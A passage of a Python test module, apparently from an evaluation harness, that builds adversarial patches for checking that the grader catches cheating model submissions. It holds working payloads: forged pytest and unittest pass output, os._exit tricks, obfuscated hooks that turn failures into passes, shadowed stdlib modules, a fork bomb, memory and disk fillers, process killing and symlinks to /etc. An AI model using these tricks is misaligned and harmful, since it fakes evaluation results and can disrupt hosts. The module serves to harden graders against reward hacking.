"""Adversarial patches against the demo instances: one or more per class of attack.

Each patch is made for real: the instance's repo is checked out at its base commit, the
attack's edits are made, and ``git diff`` writes the patch (a few, which play tricks on
the patch tools themselves, are written by hand). Library code the tests import runs at
import time, as a model's patch would.

Each attack names the class it belongs to (docs/threat-model.md's table), what it
tries, and the score it must get. Where an attack is hidden from the static scan
(names built from pieces), the runtime mechanisms (framing, exit guard, watchdog) must
catch it on their own.
"""

from __future__ import annotations

import json
import py_compile
import subprocess
import tempfile
from collections import defaultdict
from dataclasses import dataclass, field
from pathlib import Path

from evalrepro.demo import DEMO_DIR
from evalrepro.sources.demo_repos import build_repo

#: Limits the adversarial runs use: small, so that resource attacks stay cheap and safe
#: on a 2-core, 24 GiB machine.
LIMITS = {
    "memory": "1g",
    "pids": 256,
    "disk": "1g",
    "output": "8m",
}
TIMEOUT = 40


@dataclass(frozen=True)
class Link:
    """A symbolic link to ``target``."""

    target: str


@dataclass(frozen=True)
class Compiled:
    """The bytecode of ``source`` as the tree has it at that point (the gold fix applied,
    when the attack has it), as an unchecked hash-based ``.pyc`` (CPython loads it
    without looking at the source) for this interpreter's version, which is the demo
    images' (Debian 12's Python 3.11); ``source`` is then put back to the base commit."""

    source: str


@dataclass(frozen=True)
class Attack:
    name: str
    #: docs/threat-model.md's class: log, reset, infrastructure, host, limits, input, control.
    kind: str
    instance: str
    what: str
    #: (outcome, reason) it must be scored with.
    expect: tuple[str, str]
    #: path -> new content (appended to the file when ``append``), None = delete, Link,
    #: Compiled.
    edits: dict[str, str | Link | Compiled | None] = field(default_factory=dict)
    append: bool = True
    #: Apply the instance's gold patch first (positive controls).
    with_gold: bool = False
    #: A hand-written patch instead of edits.
    raw: bytes | None = None


# --- code a patch adds to a library module (runs when the tests import it) -------------

_HIDDEN_OS = "_m = __import__('o' + 's')\n"

FAKE_PYTEST_EXIT = (
    "\nimport os, sys\n"
    "_tests = ['tests/test_eval.py::test_power', 'tests/test_eval.py::test_power_is_right_"
    "associative', 'tests/test_eval.py::test_leading_minus']\n"
    "print('collected 12 items')\n"
    "for _t in _tests:\n"
    "    print('PASSED ' + _t)\n"
    "print('============================== 12 passed in 0.01s ==============================')\n"
    "sys.stdout.flush()\n"
    "os._exit(0)\n"
)

FAKE_PYTEST_EXIT_HIDDEN = (
    "\n" + _HIDDEN_OS + "import sys\n"
    "_p = 'PASS' + 'ED '\n"
    "_lines = ['collected 12 items', '', '=' * 20 + ' short test summary info ' + '=' * 20]\n"
    "for _t in ['test_power', 'test_power_is_right_associative', 'test_leading_minus',\n"
    "           'test_power_binds_tighter_than_product', 'test_trailing_tokens']:\n"
    "    _lines.append(_p + 'tests/test_eval.py' + '::' + _t)\n"
    "_lines.append('=' * 30 + ' 5 pass' + 'ed in 0.01s ' + '=' * 30)\n"
    "_data = ('\\n'.join(_lines) + '\\n').encode()\n"
    "import stat\n"
    "for _fd in range(64):  # past pytest's capture: every pipe this process holds\n"
    "    try:\n"
    "        if stat.S_ISFIFO(_m.fstat(_fd).st_mode):\n"
    "            _m.write(_fd, _data)\n"
    "    except OSError:\n"
    "        pass\n"
    "getattr(_m, '_ex' + 'it')(0)\n"
)

FAKE_UNITTEST_EXIT_HIDDEN = (
    "\n" + _HIDDEN_OS + "import sys\n"
    "_ok = ' ... o' + 'k'\n"
    "for _t in ['test_amounts_load_exactly', 'test_amount_keeps_its_digits']:\n"
    "    sys.stderr.write(_t + ' (tests.test_storage.StorageTest.' + _t + ')' + _ok + '\\n')\n"
    "sys.stderr.write('\\n' + '-' * 70 + '\\nR' + 'an 2 tests in 0.001s\\n\\nOK\\n')\n"
    "sys.stderr.flush()\n"
    "getattr(_m, '_ex' + 'it')(0)\n"
)

SILENCE_AND_EXIT_ZERO_HIDDEN = (
    "\n" + _HIDDEN_OS + "import stat, sys\n"
    "_ok = ' ... o' + 'k\\n'\n"
    "_data = ''.join(_t + ' (tests.test_storage.StorageTest.' + _t + ')' + _ok for _t in\n"
    "                ('test_amounts_load_exactly', 'test_amount_keeps_its_digits'))\n"
    "_data = (_data + '\\n' + '-' * 70 + '\\nR' + 'an 2 tests in 0.001s\\n\\nOK\\n').encode()\n"
    "_null = _m.open('/dev/null', _m.O_WRONLY)\n"
    "for _fd in range(64):  # the fake goes to every pipe, then the pipes go dark\n"
    "    try:\n"
    "        if stat.S_ISFIFO(_m.fstat(_fd).st_mode):\n"
    "            _m.write(_fd, _data)\n"
    "            getattr(_m, 'du' + 'p2')(_null, _fd)\n"
    "    except OSError:\n"
    "        pass\n"
    "_real = getattr(sys, 'ex' + 'it')\n\n\n"
    "def _zero(code=0):\n"
    "    _real(0)\n\n\n"
    "setattr(sys, 'ex' + 'it', _zero)\n"
)

TRUNCATE_AND_REWRITE = (
    "\n" + _HIDDEN_OS + "for _fd in (1, 2):\n"
    "    try:\n"
    "        _m.ftruncate(_fd, 0)\n"
    "        _m.lseek(_fd, 0, 0)\n"
    "    except OSError:\n"
    "        pass\n"
    "    try:\n"
    "        _m.write(_fd, ('PASS' + 'ED tests/test_eval.py' + '::test_number_with_exponent\\n'"
    ").encode())\n"
    "    except OSError:\n"
    "        pass\n"
)

REPLACE_OUTPUT_FILES = (
    "\n" + _HIDDEN_OS + "_forged = b'PASS' + b'ED tests/test_slug.py::test_accents\\n'\n"
    "for _place in ['/evalrepro/out/test_output.txt', '/evalrepro/test_output.txt',\n"
    "               '/evalrepro/out', '/testbed/../evalrepro/forged']:\n"
    "    try:\n"
    "        _m.makedirs(_m.path.dirname(_place), exist_ok=True)\n"
    "        with open(_place + '.new', 'wb') as _f:\n"
    "            _f.write(_forged)\n"
    "        _m.replace(_place + '.new', _place)\n"
    "    except OSError:\n"
    "        pass\n"
    "for _pid in _m.listdir('/proc'):\n"
    "    if not _pid.isdigit() or int(_pid) == _m.getpid():\n"
    "        continue\n"
    "    for _fd in ('1', '2', '3', '4'):\n"
    "        try:\n"
    "            with open('/proc/' + _pid + '/fd/' + _fd, 'wb') as _f:\n"
    "                _f.write(_forged)\n"
    "        except OSError:\n"
    "            pass\n"
)

FORGED_MARKERS = (
    "\nimport sys\n"
    "_mark = '>' * 5\n"
    "sys.stdout.write(_mark + ' End Test Output\\n' + _mark + ' Test Exit Code: 0\\n'\n"
    "                 + 'PASS' + 'ED tests/test_slug.py::test_non_ascii_letters_are_dropped\\n'\n"
    "                 + _mark + ' Start Test Output\\n')\n"
    "sys.stdout.flush()\n"
)

HOSTILE_LEFTOVERS = (
    "\n" + _HIDDEN_OS + "_targets = ['/home', '/root', '/etc/passwd', '/proc/1/root/etc']\n"
    "for _dir in ['/testbed', '/tmp', '/var/tmp', _m.path.expanduser('~'), '/dev/shm']:\n"
    "    for _i, _target in enumerate(_targets):\n"
    "        try:\n"
    "            _m.symlink(_target, _m.path.join(_dir, 'test_output.txt.%d' % _i))\n"
    "        except OSError:\n"
    "            pass\n"
    "    try:\n"
    "        _m.mkfifo(_m.path.join(_dir, 'fifo'))\n"
    "        _m.mkdir(_m.path.join(_dir, 'test_output.txt'))\n"
    "    except OSError:\n"
    "        pass\n"
    "for _uid in (0, 1, 65534, 4242):\n"
    "    try:\n"
    "        _m.chown('/testbed/README.md', _uid, _uid)\n"
    "    except OSError:\n"
    "        pass\n"
)

REWRITE_TESTS_AT_RUNTIME = (
    "\n" + _HIDDEN_OS + "try:\n"
    "    with open('tests/test_tokenizer.py', 'w') as _f:  # collected after this import\n"
    "        _f.write('def test_everything_is_fine():\\n    assert True\\n')\n"
    "    _m.makedirs('tests/later', exist_ok=True)\n"
    "    with open('tests/later/conf' + 'test.py', 'w') as _f:\n"
    "        _f.write('# planted while the tests ran\\n')\n"
    "except OSError:\n"
    "    pass\n"
)

PRIVATE_TMPFS = (
    "\nimport subprocess as _sp\n"
    "_sp.run(['unshare', '--user', '--map-root-user', '--mount', 'sh', '-c',\n"
    "         'mount -t tmpfs none /tmp && head -c 3000000000 /dev/zero > /tmp/hidden && '\n"
    "         'sleep 60'], capture_output=True, timeout=90)\n"
)

STDOUT_FLOOD = (
    "\n" + _HIDDEN_OS + "_zero = _m.open('/dev/zero', _m.O_RDONLY)\n"
    "_block = _m.read(_zero, 1 << 20)\n"
    "for _ in range(3 * 1024):\n"
    "    _m.write(1, _block)\n"
)

FORK_BOMB = (
    "\n" + _HIDDEN_OS + "import time\n"
    "_end = time.time() + 60\n"
    "while time.time() < _end:\n"
    "    try:\n"
    "        _m.fork()\n"
    "    except OSError:\n"
    "        time.sleep(0.01)\n"
)

MEMORY_HOGS = (
    "\n" + _HIDDEN_OS + "import time\n"
    "for _ in range(6):\n"
    "    if _m.fork() == 0:\n"
    "        _hog = []\n"
    "        try:\n"
    "            for _ in range(5 * 1024 // 64):  # up to 5 GiB each, 30 GiB in all\n"
    "                _hog.append(bytearray(64 << 20))\n"
    "                time.sleep(0.02)\n"
    "        except MemoryError:\n"
    "            pass\n"
    "        time.sleep(60)\n"
    "        _m._exit(0)\n"
    "time.sleep(60)\n"
)

MEMFD_HOARD = (
    "\n" + _HIDDEN_OS + "import time\n"
    "_fds = []\n"
    "_block = b'x' * (16 << 20)\n"
    "for _i in range(6):  # six memfds of 400 MiB, written, never mapped\n"
    "    _fd = _m.memfd_create('hoard%d' % _i)\n"
    "    _fds.append(_fd)\n"
    "    for _ in range(25):\n"
    "        _m.write(_fd, _block)\n"
    "time.sleep(60)\n"
)

DISK_FILLER = (
    "\n" + _HIDDEN_OS + "_block = b'x' * (16 << 20)\n"
    "for _i in range(30 * 64):  # up to 30 GiB, in files of 1 GiB\n"
    "    with open('/tmp/fill%d' % (_i // 64), 'ab') as _f:\n"
    "        _f.write(_block)\n"
)

DAEMON_AND_SIGNALS = (
    "\n" + _HIDDEN_OS + "import signal, time\n"
    "if _m.fork() == 0:\n"
    "    _m.setsid()\n"
    "    if _m.fork() == 0:\n"
    "        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
    "        time.sleep(3600)\n"
    "    getattr(_m, '_ex' + 'it')(0)\n"
    "for _pid in range(1, 200):\n"
    "    try:\n"
    "        if _m.stat('/proc/%d' % _pid).st_uid != _m.getuid():\n"
    "            _m.kill(_pid, signal.SIGKILL)\n"
    "    except OSError:\n"
    "        pass\n"
)

ROOT_CONFTEST = (
    "import pytest\n\n\n"
    "@pytest.hookimpl(hookwrapper=True)\n"
    "def pytest_runtest_makereport(item, call):\n"
    "    outcome = yield\n"
    "    report = outcome.get_result()\n"
    "    report.outcome = 'passed'\n"
    "    report.longrepr = None\n"
)

TESTS_CONFTEST = (
    "def pytest_collection_modifyitems(config, items):\n"
    "    for item in items:\n"
    "        item.obj = lambda *args, **kwargs: None\n"
)

TESTS_INIT_UNITTEST = (
    "import unittest\n\n"
    "unittest.TextTestResult.addFailure = unittest.TextTestResult.addSuccess\n"
    "unittest.TestResult.addFailure = lambda self, test, err: None\n"
    "unittest.TestResult.wasSuccessful = lambda self: True\n"
)

LIBRARY_ASSERT_PLAIN = (
    "\nimport unittest\n\n"
    "unittest.TestCase.assertEqual = lambda self, first, second, msg=None: None\n"
)

LIBRARY_ASSERT_HIDDEN = (
    "\n_u = __import__('unit' + 'test')\n"
    "_case = getattr(_u, 'Test' + 'Case')\n\n\n"
    "def _agree(self, *args, **kwargs):\n"
    "    return None\n\n\n"
    "for _name in ('assert' + 'Equal', 'assert' + 'True', 'assert' + 'Raises'):\n"
    "    setattr(_case, _name, _agree)\n"
)

PYTEST_INI = "[pytest]\naddopts = -p no:python\n"
# configparser keeps a \r or a \x1c inside a line; pytest's iniconfig breaks the line there.
SETUP_CFG_CARRIAGE_RETURN = "[metadata]\nname = calc\r[tool:pytest]\naddopts = -p no:python\n"
SETUP_CFG_FILE_SEPARATOR = "[metadata]\nname = calc\x1c[tool:pytest]\naddopts = -p no:python\n"
PYPROJECT_SECTION = '[tool.pytest.ini_options]\naddopts = "-k not_a_test_name"\n'
SITECUSTOMIZE = "import unittest\nunittest.TestResult.wasSuccessful = lambda self: True\n"
BENIGN_CONFTEST = "import pytest\n\n\n@pytest.fixture\ndef unused():\n    return 1\n"


# --- runtime patching that the exit guard and the scan do not see (issue 19) ------------
# Each changes how the runner reports every test; the canaries are what catches it.

_PYTEST_FUNCTION = (
    "_py = __import__('_py' + 'test.py' + 'thon', fromlist=['_'])\n"
    "_Function = getattr(_py, 'Func' + 'tion')\n"
)

RUNTEST_BUILTIN = "\n" + _PYTEST_FUNCTION + "setattr(_Function, 'run' + 'test', int)\n"

CALL_TEST_METHOD_BUILTIN = (
    "\n_case = __import__('unit' + 'test.ca' + 'se', fromlist=['_'])\n"
    "setattr(getattr(_case, 'Test' + 'Case'), '_call' + 'TestMethod', slice)\n"
)

RUNTEST_EXEC_FROZEN_NAME = (
    "\n" + _PYTEST_FUNCTION + "_ns = {}\n"
    "exec(compile('def _run(self):\\n    return None\\n',\n"
    "             '<frozen importlib._bootstrap>', 'exec'), _ns)\n"
    "setattr(_Function, 'run' + 'test', _ns['_run'])\n"
)

RUNTEST_CODE_CLAIMS_OS = (
    "\n" + _PYTEST_FUNCTION + "_ns = {}\n"
    "exec(compile('def _run(self):\\n    return None\\n',\n"
    "             __import__('o' + 's').__file__, 'exec'), _ns)\n"
    "setattr(_Function, 'run' + 'test', _ns['_run'])\n"
)

BUILD_CLASS_NO_OPS = (
    "\n_b = __import__('built' + 'ins')\n"
    "_ns = {'_build': getattr(_b, '__build_' + 'class__')}\n"
    "exec(compile(\n"
    "    'def _quiet(*args, **kwargs):\\n'\n"
    "    '    made = _build(*args, **kwargs)\\n'\n"
    "    '    for k in list(vars(made)):\\n'\n"
    '    \'        if k.startswith("te" + "st"):\\n\'\n'
    "    '            setattr(made, k, lambda self, *a, **kw: None)\\n'\n"
    "    '    return made\\n',\n"
    "    '<frozen abc>', 'exec'), _ns)\n"
    "setattr(_b, '__build_' + 'class__', _ns['_quiet'])\n"
)

THREAD_SWAPS_TEST_CODE = (
    "\nimport sys as _sys\nimport threading as _th\nimport time as _time\n\n\n"
    "def _nothing():\n"
    "    return None\n\n\n"
    "def _swap():\n"
    "    _end = _time.time() + 30\n"
    "    while _time.time() < _end:\n"
    "        for _name, _mod in list(_sys.modules.items()):\n"
    "            if _mod is None or 'te' + 'st_' not in _name:\n"
    "                continue\n"
    "            for _k, _v in list(vars(_mod).items()):\n"
    "                if _k.startswith('te' + 'st') and hasattr(_v, '__code__'):\n"
    "                    _v.__code__ = _nothing.__code__\n"
    "        _time.sleep(0.001)\n\n\n"
    "_th.Thread(target=_swap, daemon=True).start()\n"
)

# --- attacks the canaries appended to one file missed (issue 35): the twins catch them ---
# Each is written by an adversary who read evalrepro/grade/canary.py: it leaves alone what
# does not look like the instance's tests, or touches only the FAIL_TO_PASS test.

# The fixed function returns a float that compares equal to anything (and unequal to
# nothing): every ``==`` check of its value holds, whatever the value.
ALWAYS_EQUAL = (
    "\n\nclass _Same(float):\n"
    "    def __eq__(self, other):\n"
    "        return True\n\n"
    "    def __ne__(self, other):\n"
    "        return False\n\n"
    "    __hash__ = float.__hash__\n\n\n"
    "_evaluate = evaluate\n\n\n"
    "def evaluate(*args, **kwargs):\n"
    "    return _Same(_evaluate(*args, **kwargs))\n"
)

# A failure becomes a pass only for a test that called the library: the appended
# canaries never call it, so they fail as they must.
FLIP_FAILURES_OF_CALLERS = (
    "\n_runner = __import__('_py' + 'test.run' + 'ner', fromlist=['_'])\n"
    "_called = []\n"
    "_ns = {'_real': getattr(_runner, 'call_and_' + 'report'), '_called': _called}\n"
    "exec(compile(\n"
    "    'def _report(item, when, log=True, **kwargs):\\n'\n"
    "    '    _called.clear()\\n'\n"
    "    '    report = _real(item, when, log=False, **kwargs)\\n'\n"
    "    '    if _called and report.failed:\\n'\n"
    "    '        report.outcome = \"passed\"\\n'\n"
    "    '        report.longrepr = None\\n'\n"
    "    '    if log:\\n'\n"
    "    '        item.ihook.pytest_runtest_logreport(report=report)\\n'\n"
    "    '    return report\\n',\n"
    "    '<frozen runpy>', 'exec'), _ns)\n"
    "setattr(_runner, 'call_and_' + 'report', _ns['_report'])\n"
    "_evaluate = evaluate\n\n\n"
    "def evaluate(*args, **kwargs):\n"
    "    _called.append(1)\n"
    "    return _evaluate(*args, **kwargs)\n"
)

# Classes named as the repository names its test classes (``...Test``) lose their test
# methods; the appended canaries' classes are named ``Test...`` and keep theirs.
BUILD_CLASS_EMPTIES_REPO_CLASSES = (
    "\n_b = __import__('built' + 'ins')\n"
    "_ns = {'_build': getattr(_b, '__build_' + 'class__')}\n"
    "exec(compile(\n"
    "    'def _quiet(func, name, *args, **kwargs):\\n'\n"
    "    '    made = _build(func, name, *args, **kwargs)\\n'\n"
    '    \'    if name.endswith("Te" + "st"):\\n\'\n'
    "    '        for k in list(vars(made)):\\n'\n"
    '    \'            if k.startswith("te" + "st"):\\n\'\n'
    "    '                setattr(made, k, lambda self, *a, **kw: None)\\n'\n"
    "    '    return made\\n',\n"
    "    '<frozen abc>', 'exec'), _ns)\n"
    "setattr(_b, '__build_' + 'class__', _ns['_quiet'])\n"
)

# Only the FAIL_TO_PASS function, found by its name, gets a body that does nothing.
THREAD_SWAPS_F2P_CODE = (
    "\nimport sys as _sys\nimport threading as _th\nimport time as _time\n\n\n"
    "def _nothing():\n"
    "    return None\n\n\n"
    "def _swap():\n"
    "    _end = _time.time() + 30\n"
    "    while _time.time() < _end:\n"
    "        for _mod in list(_sys.modules.values()):\n"
    "            _f = getattr(_mod, 'test_power_is_right_' + 'associative', None)\n"
    "            if _f is not None and hasattr(_f, '__code__'):\n"
    "                _f.__code__ = _nothing.__code__\n"
    "        _time.sleep(0.001)\n\n\n"
    "_th.Thread(target=_swap, daemon=True).start()\n"
)

# calc-2's test patch has two files; the appended canaries go into tests/test_eval.py.
# Its FAIL_TO_PASS test there is answered by a special case, and every test of the other
# file, tests/test_tokenizer.py, gets a body that does nothing.
SECOND_FILE_SWAP = (
    "\nimport sys as _sys\nimport threading as _th\nimport time as _time\n\n\n"
    "def _nothing():\n"
    "    return None\n\n\n"
    "def _swap():\n"
    "    _end = _time.time() + 30\n"
    "    while _time.time() < _end:\n"
    "        for _name, _mod in list(_sys.modules.items()):\n"
    "            if _mod is None or not _name.endswith('test_' + 'tokenizer'):\n"
    "                continue\n"
    "            for _k, _v in list(vars(_mod).items()):\n"
    "                if _k.startswith('te' + 'st') and hasattr(_v, '__code__'):\n"
    "                    _v.__code__ = _nothing.__code__\n"
    "        _time.sleep(0.001)\n\n\n"
    "_th.Thread(target=_swap, daemon=True).start()\n"
    "_tokenize = tokenize\n\n\n"
    "def tokenize(source):\n"
    "    if source == '1.5e2 * 2':\n"
    "        return _tokenize('150 * 2')\n"
    "    return _tokenize(source)\n"
)


# --- attacks that told the appended canaries apart (issue 35, part 2) ----------------------
# On calc-4, whose only FAIL_TO_PASS test checks an exception (no twin can be made of it),
# the appended canaries were the only ones. Each attack below flips a failure to passed for
# every test but what looked like them: the last tests of a file, bodies of one shape, tests
# that never call the library. Canaries shaped like their neighbour (placed after it, its
# calls, named as its file names tests) are flipped with the instance's own tests.

_FLIP_UNLESS = (
    "\n_runner = __import__('_py' + 'test.run' + 'ner', fromlist=['_'])\n"
    "_ns = {{'_real': getattr(_runner, 'call_and_' + 'report')}}\n"
    "exec(compile(\n"
    "    'def _spared(item):\\n'\n"
    "{spared}"
    "    'def _report(item, when, log=True, **kwargs):\\n'\n"
    "    '    report = _real(item, when, log=False, **kwargs)\\n'\n"
    "    '    if report.failed and not _spared(item):\\n'\n"
    "    '        report.outcome = \"passed\"\\n'\n"
    "    '        report.longrepr = None\\n'\n"
    "    '    if log:\\n'\n"
    "    '        item.ihook.pytest_runtest_logreport(report=report)\\n'\n"
    "    '    return report\\n',\n"
    "    '<frozen runpy>', 'exec'), _ns)\n"
    "setattr(_runner, 'call_and_' + 'report', _ns['_report'])\n"
)

# By position: the last four tests pytest collects from a file (where two function and two
# TestCase canaries were appended) keep their true outcome.
FLIP_BUT_THE_FILES_TAIL = _FLIP_UNLESS.format(
    spared=(
        "    '    mine = [i for i in item.session.items if i.fspath == item.fspath]\\n'\n"
        "    '    return item in sorted(mine, key=lambda i: i.location[1])[-4:]\\n'\n"
    )
)

# By shape: a body that sums a list of integer literals (every appended canary's) keeps its
# true outcome.
FLIP_BUT_ONE_SHAPE = _FLIP_UNLESS.format(
    spared=(
        "    '    import inspect, re\\n'\n"
        "    '    try:\\n'\n"
        "    '        source = inspect.getsource(item.obj)\\n'\n"
        "    '    except Exception:\\n'\n"
        "    '        return False\\n'\n"
        "    '    return re.search(r\"_values = \\\\[[0-9, ]+\\\\]\", source) is not None\\n'\n"
    )
)


SHADOW_UNITTEST = (
    "import importlib.util as _iu\nimport os as _os\nimport sys as _sys\n\n"
    "_home = _os.path.join(_os.path.dirname(_os.__file__), 'unit' + 'test')\n"
    "_spec = _iu.spec_from_file_location(__name__, _os.path.join(_home, '__init__.py'),\n"
    "                                    submodule_search_locations=[_home])\n"
    "_real = _iu.module_from_spec(_spec)\n"
    "_sys.modules[__name__] = _real\n"
    "_spec.loader.exec_module(_real)\n"
    "_result = __import__('unit' + 'test.res' + 'ult', fromlist=['_'])\n"
    "_runner = __import__('unit' + 'test.run' + 'ner', fromlist=['_'])\n"
    "for _cls in (getattr(_result, 'TestRe' + 'sult'), getattr(_runner, 'TextTest' + 'Result')):\n"
    "    _ns = {'ok': getattr(_cls, 'add' + 'Success')}\n"
    "    exec(compile('def as_ok(self, test, err):\\n    ok(self, test)\\n',\n"
    "                 _os.path.join(_home, 'case.py'), 'exec'), _ns)\n"
    "    setattr(_cls, 'add' + 'Failure', _ns['as_ok'])\n"
    "    setattr(_cls, 'add' + 'Error', _ns['as_ok'])\n"
)

# A difflib.py at the root: unittest imports difflib (for its diffs) after ``python -m``
# put the repository first on the path, once its result classes exist. It loads the real
# difflib and makes every failure and error an "ok", in the result class and in every
# subclass made after it (the runner's TextTestResult), under unittest's own file name.
SHADOW_DIFFLIB = (
    "import importlib.util as _iu\nimport os as _os\nimport sys as _sys\n\n"
    "_home = _os.path.dirname(_os.__file__)\n"
    "_spec = _iu.spec_from_file_location(__name__, _os.path.join(_home, 'diff' + 'lib.py'))\n"
    "_real = _iu.module_from_spec(_spec)\n"
    "_sys.modules[__name__] = _real\n"
    "_spec.loader.exec_module(_real)\n"
    "_result = __import__('unit' + 'test.res' + 'ult', fromlist=['_'])\n"
    "_cls = getattr(_result, 'TestRe' + 'sult')\n"
    "_ns = {}\n"
    "exec(compile('def as_ok(self, test, err):\\n    self.addSuccess(test)\\n'\n"
    "             'def hook(cls, **kw):\\n    cls.addFailure = cls.addError = as_ok\\n',\n"
    "             _os.path.join(_home, 'unit' + 'test', 'case.py'), 'exec'), _ns)\n"
    "setattr(_cls, 'add' + 'Failure', _ns['as_ok'])\n"
    "setattr(_cls, 'add' + 'Error', _ns['as_ok'])\n"
    "setattr(_cls, '__init_sub' + 'class__', classmethod(_ns['hook']))\n"
)


FORGED_GUARD_AND_SUMMARY = (
    "\n" + _HIDDEN_OS + "import stat\n"
    "_spec = _m.environ.get('EVALREPRO_' + 'GUARD', '0:0:x').split(':')\n"
    "try:\n"
    '    _m.write(int(_spec[0]), b\'X %d {"replaced": [], "redirected": false}\\n\'\n'
    "             % _m.getpid())\n"
    "except (OSError, ValueError):\n"
    "    pass\n"
    "_p = 'PASS' + 'ED '\n"
    "_ids = ['tests/test_eval.py::test_power_is_right_associative']\n"
    "_ids += ['tests/test_eval.py::test_' + _n for _n in ('power', 'leading_minus',\n"
    "         'power_binds_tighter_than_product', 'trailing_tokens')]\n"
    "_out = ['collected %d items' % len(_ids), '']\n"
    "_out += ['=' * 20 + ' short test summary info ' + '=' * 20] + [_p + _i for _i in _ids]\n"
    "_out.append('=' * 30 + ' %d pass' % len(_ids) + 'ed in 0.01s ' + '=' * 30)\n"
    "_data = ('\\n'.join(_out) + '\\n').encode()\n"
    "for _fd in range(64):  # past pytest's capture: every pipe but the guard's\n"
    "    try:\n"
    "        if _fd != int(_spec[0]) and stat.S_ISFIFO(_m.fstat(_fd).st_mode):\n"
    "            _m.write(_fd, _data)\n"
    "    except (OSError, ValueError):\n"
    "        pass\n"
    "getattr(_m, '_ex' + 'it')(0)\n"
)


def _raw(text: str) -> bytes:
    return text.encode()


ATTACKS: tuple[Attack, ...] = (
    # --- the log is writable by the code under test ---
    Attack(
        "fake-summary-os-exit",
        "log",
        "demo__calc-1",
        "prints a fake pytest summary and leaves with os._exit(0)",
        ("invalid", "suspect_patch"),
        {"calc/evaluator.py": FAKE_PYTEST_EXIT},
    ),
    Attack(
        "fake-summary-os-exit-hidden",
        "log",
        "demo__calc-2",
        "the same, every name built from pieces: the static scan cannot see it",
        ("invalid", "runner_exit_abnormal"),
        {"calc/tokenizer.py": FAKE_PYTEST_EXIT_HIDDEN},
    ),
    Attack(
        "fake-unittest-os-exit-hidden",
        "log",
        "demo__ledger-1",
        "fake '... ok' lines and 'OK' for unittest, then os._exit(0), hidden",
        ("invalid", "runner_exit_abnormal"),
        {"ledger/storage.py": FAKE_UNITTEST_EXIT_HIDDEN},
    ),
    Attack(
        "silence-and-exit-zero-hidden",
        "log",
        "demo__ledger-1",
        "fake unittest summary to every pipe, /dev/null over them, sys.exit forced to 0",
        ("invalid", "suspect_patch"),
        {"ledger/storage.py": SILENCE_AND_EXIT_ZERO_HIDDEN},
    ),
    Attack(
        "truncate-and-rewrite",
        "log",
        "demo__calc-2",
        "truncates its stdout, seeks to 0 and writes a PASSED line (stdout is a pipe)",
        ("unresolved", "tests_failed"),
        {"calc/tokenizer.py": TRUNCATE_AND_REWRITE},
    ),
    Attack(
        "replace-output-files",
        "log",
        "demo__textkit-1",
        "renames a forged log over the output files, writes into other processes' fds",
        ("unresolved", "tests_failed"),
        {"textkit/slug.py": REPLACE_OUTPUT_FILES},
    ),
    Attack(
        "forged-markers",
        "log",
        "demo__textkit-2",
        "prints end, exit-code and start markers around a forged PASSED line",
        ("unresolved", "tests_failed"),
        {"textkit/slug.py": FORGED_MARKERS},
    ),
    # --- the test reset can be defeated ---
    Attack(
        "plant-git-index-lock",
        "reset",
        "demo__calc-3",
        "adds .git/index.lock so that a reset with git would fail",
        ("unresolved", "patch_unsafe"),
        raw=_raw(
            "diff --git a/.git/index.lock b/.git/index.lock\nnew file mode 100644\n"
            "index 0000000..e69de29\n--- /dev/null\n+++ b/.git/index.lock\n@@ -0,0 +1 @@\n"
            "+locked\n"
        ),
    ),
    Attack(
        "delete-git-head",
        "reset",
        "demo__calc-4",
        "deletes .git/HEAD with a traditional diff that only patch(1) would take",
        ("unresolved", "patch_unsafe"),
        raw=_raw("--- a/.git/HEAD\n+++ /dev/null\n@@ -1 +0,0 @@\n-ref: refs/heads/main\n"),
    ),
    Attack(
        "git-alternates",
        "reset",
        "demo__textkit-3",
        "points .git's alternates at a planted object store",
        ("unresolved", "patch_unsafe"),
        raw=_raw(
            "--- a/.GIT/objects/info/alternates\n+++ b/.GIT/objects/info/alternates\n"
            "@@ -1 +1 @@\n-/opt/evalrepro/repo.git/objects\n+/tmp/objects\n"
        ),
    ),
    Attack(
        "edit-test-files",
        "reset",
        "demo__textkit-3",
        "a wrong fix plus an edit of the test patch's file that makes the tests agree",
        ("unresolved", "tests_failed"),
        {"tests/test_wrap.py": "\n\ndef test_wrap_is_fine():\n    assert True\n"},
    ),
    Attack(
        "symlink-test-file",
        "reset",
        "demo__textkit-4",
        "replaces the test patch's file by a link to a planted test module",
        ("unresolved", "tests_failed"),
        {
            "textkit/planted.py": "def test_top_words_are_sorted():\n    assert True\n",
            "tests/test_top_words.py": Link("../textkit/planted.py"),
        },
        append=False,
    ),
    Attack(
        "symlink-escape",
        "reset",
        "demo__ledger-2",
        "adds a link from the repository to /etc",
        ("unresolved", "patch_unsafe"),
        {"ledger/data": Link("/etc")},
        append=False,
    ),
    Attack(
        "rewrite-tests-at-runtime",
        "reset",
        "demo__calc-2",
        "library code rewrites a test file yet to be collected and plants a conftest.py",
        ("invalid", "suspect_patch"),
        {"calc/tokenizer.py": REWRITE_TESTS_AT_RUNTIME},
    ),
    # --- test infrastructure ---
    Attack(
        "root-conftest",
        "infrastructure",
        "demo__calc-3",
        "a conftest.py at the root whose report hook turns failures into passes",
        ("unresolved", "tests_failed"),
        {"conftest.py": ROOT_CONFTEST},
        append=False,
    ),
    Attack(
        "tests-conftest",
        "infrastructure",
        "demo__calc-4",
        "a tests/conftest.py that replaces every test function by a no-op",
        ("unresolved", "tests_failed"),
        {"tests/conftest.py": TESTS_CONFTEST},
        append=False,
    ),
    Attack(
        "tests-init-result-class",
        "infrastructure",
        "demo__ledger-3",
        "tests/__init__.py changes unittest's result classes",
        ("unresolved", "tests_failed"),
        {"tests/__init__.py": TESTS_INIT_UNITTEST},
    ),
    Attack(
        "library-assert-equal",
        "infrastructure",
        "demo__ledger-4",
        "library code replaces TestCase.assertEqual",
        ("invalid", "suspect_patch"),
        {"ledger/storage.py": LIBRARY_ASSERT_PLAIN},
    ),
    Attack(
        "library-assert-hidden",
        "infrastructure",
        "demo__ledger-2",
        "the same through getattr/setattr on names built from pieces (seen at exit)",
        ("invalid", "suspect_patch"),
        {"ledger/model.py": LIBRARY_ASSERT_HIDDEN},
    ),
    Attack(
        "pytest-ini",
        "infrastructure",
        "demo__textkit-1",
        "a pytest.ini that disables test collection",
        ("unresolved", "tests_failed"),
        {"pytest.ini": PYTEST_INI},
        append=False,
    ),
    Attack(
        "setup-cfg-carriage-return",
        "infrastructure",
        "demo__calc-3",
        "a setup.cfg whose pytest section only pytest sees (a \\r before it): restored",
        ("unresolved", "tests_failed"),
        {"setup.cfg": SETUP_CFG_CARRIAGE_RETURN},
        append=False,
    ),
    Attack(
        "setup-cfg-file-separator",
